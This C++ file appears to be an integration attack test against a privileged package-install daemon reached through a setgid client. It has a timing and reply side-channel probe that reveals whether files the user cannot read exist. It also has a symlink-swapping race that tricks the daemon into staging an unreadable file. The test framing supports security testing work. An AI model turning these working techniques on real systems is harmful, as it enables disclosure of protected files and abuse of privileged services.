// What a user learns, through the setgid client's session, from the daemon's
// replies to install requests and from their times, about files the user
// cannot read; and whether a path swapped after the first check makes the
// daemon stage a file the user cannot read.
//
// usage: file_oracle probe CLIENT SOCKET ROUNDS MISSING READABLE NAME=PATH...
//   Sends, ROUNDS times over (each round in its own random order), one
//   install request for each named path and waits for its reply, timing it.
//   Prints for each name its replies (the distinct ones), the median time and
//   how many rounds it was told apart from the missing file MISSING (another
//   reply, or a time above the slowest of the missing file's), then
//   "tries N served M": the rounds of every name but MISSING and READABLE
//   (the user's own file, for comparison), and how many were told apart.
// usage: file_oracle race CLIENT SOCKET TRIES LINK OWN SECRET
//   A child flips the symbolic link LINK between OWN (the user's own signed
//   package) and SECRET (a file the user cannot read) while TRIES install
//   requests name LINK. Served: replies showing that what was staged is not
//   what was checked ("safe install path's Location pkg codeSign is
//   invalid").
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <random>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include <nlohmann/json.hpp>

#include "tests/integration/attacks/attack.h"

namespace {

// The setgid client in a session, fed and read through pipes.
class Session {
  public:
    Session(const std::string& client, const std::string& socket) {
        int in[2];
        int out[2];
        if (::pipe2(in, O_CLOEXEC) != 0 || ::pipe2(out, O_CLOEXEC) != 0) {
            std::perror("pipe");
            std::exit(2);
        }
        pid_ = ::fork();
        if (pid_ == 0) {
            ::dup2(in[0], 0);
            ::dup2(out[1], 1);
            ::execl(client.c_str(), client.c_str(), "--socket", socket.c_str(), "--timeout", "5",
                    "session", static_cast<char*>(nullptr));
            _exit(127);
        }
        ::close(in[0]);
        ::close(out[1]);
        to_ = in[1];
        from_ = out[0];
    }
    ~Session() {
        ::close(to_);
        ::kill(pid_, SIGTERM);
        ::waitpid(pid_, nullptr, 0);
        ::close(from_);
    }
    Session(const Session&) = delete;
    Session& operator=(const Session&) = delete;

    // One install request and the reply's values as the client prints them
    // (e.g. [false,"..."]), or "" when none came within 60 s.
    std::string install(const std::string& path) {
        const std::string line =
            R"({"seq":)" + std::to_string(++seq_) +
            R"(,"selector":"installNewLocationHelperPackage:reply:","types":"c@","args":[")" +
            path + "\"]}\n";
        if (::write(to_, line.data(), line.size()) != static_cast<ssize_t>(line.size())) {
            return "";
        }
        for (;;) {
            const size_t end = buffer_.find('\n');
            if (end != std::string::npos) {
                const auto message = nlohmann::json::parse(buffer_.substr(0, end), nullptr, false);
                buffer_.erase(0, end + 1);
                return message.is_object() && message.contains("reply")
                           ? message["reply"].dump()
                           : std::string("(not a reply)");
            }
            pollfd p{from_, POLLIN, 0};
            char chunk[4096];
            if (::poll(&p, 1, 60000) <= 0) {
                return "";
            }
            const ssize_t n = ::read(from_, chunk, sizeof chunk);
            if (n <= 0) {
                return "";
            }
            buffer_.append(chunk, static_cast<size_t>(n));
        }
    }

  private:
    pid_t pid_ = -1;
    int to_ = -1;
    int from_ = -1;
    unsigned seq_ = 0;
    std::string buffer_;
};

double microsecondsSince(std::chrono::steady_clock::time_point start) {
    return std::chrono::duration<double, std::micro>(std::chrono::steady_clock::now() - start)
        .count();
}

int probe(int argc, char** argv) {
    Session session(argv[2], argv[3]);
    const int rounds = std::atoi(argv[4]);
    const std::string missing = argv[5];
    const std::string readable = argv[6];
    std::vector<std::pair<std::string, std::string>> targets;
    for (int i = 7; i < argc; ++i) {
        const char* eq = std::strchr(argv[i], '=');
        if (eq == nullptr) {
            return 2;
        }
        targets.emplace_back(std::string(argv[i], static_cast<size_t>(eq - argv[i])),
                             std::string(eq + 1));
    }
    std::map<std::string, std::vector<double>> times;
    std::map<std::string, std::vector<std::string>> replies;
    // Each round in another order: a request's time depends on the one
    // before it (a full check leaves the next request slower).
    std::mt19937 shuffler(18);
    std::vector<std::pair<std::string, std::string>> order = targets;
    for (int round = 0; round < rounds; ++round) {
        std::shuffle(order.begin(), order.end(), shuffler);
        for (const auto& [name, path] : order) {
            const auto start = std::chrono::steady_clock::now();
            replies[name].push_back(session.install(path));
            times[name].push_back(microsecondsSince(start));
        }
    }
    const auto& missingTimes = times[missing];
    const double slowestMissing = *std::max_element(missingTimes.begin(), missingTimes.end());
    const std::string missingReply = replies[missing].front();
    int tries = 0;
    int toldApart = 0;
    for (const auto& [name, path] : targets) {
        std::vector<double> sorted = times[name];
        std::sort(sorted.begin(), sorted.end());
        const std::set<std::string> distinct(replies[name].begin(), replies[name].end());
        std::string shown;
        for (const std::string& r : distinct) {
            shown += (shown.empty() ? "" : " | ") + r;
        }
        int apart = 0;
        for (int round = 0; round < rounds; ++round) {
            if (replies[name][round] != missingReply || times[name][round] > slowestMissing) {
                ++apart;
            }
        }
        std::printf("path %s median-us %.0f told-apart %d/%d reply %s\n", name.c_str(),
                    sorted[sorted.size() / 2], apart, rounds, shown.c_str());
        if (name != missing && name != readable) {
            tries += rounds;
            toldApart += apart;
        }
    }
    attack::report(tries, toldApart);
    return 0;
}

int race(char** argv) {
    const int tries = std::atoi(argv[4]);
    const std::string link = argv[5];
    const std::string own = argv[6];
    const std::string secret = argv[7];
    const pid_t flipper = attack::startLinkFlipper(link, own, secret, 200);
    std::map<std::string, int> seen;
    int served = 0;
    {
        Session session(argv[2], argv[3]);
        for (int i = 0; i < tries; ++i) {
            const std::string reply = session.install(link);
            ++seen[reply];
            if (reply.find("safe install path's Location pkg codeSign is invalid") !=
                std::string::npos) {
                ++served;
            }
        }
    }
    attack::stopLinkFlipper(flipper);
    for (const auto& [reply, count] : seen) {
        std::printf("reply %d %s\n", count, reply.c_str());
    }
    attack::report(tries, served);
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    if (argc >= 8 && std::strcmp(argv[1], "probe") == 0) {
        return probe(argc, argv);
    }
    if (argc == 8 && std::strcmp(argv[1], "race") == 0) {
        return race(argv);
    }
    std::fprintf(stderr,
                 "usage: file_oracle probe CLIENT SOCKET ROUNDS MISSING READABLE NAME=PATH...\n"
                 "       file_oracle race CLIENT SOCKET TRIES LINK OWN SECRET\n");
    return 2;
}
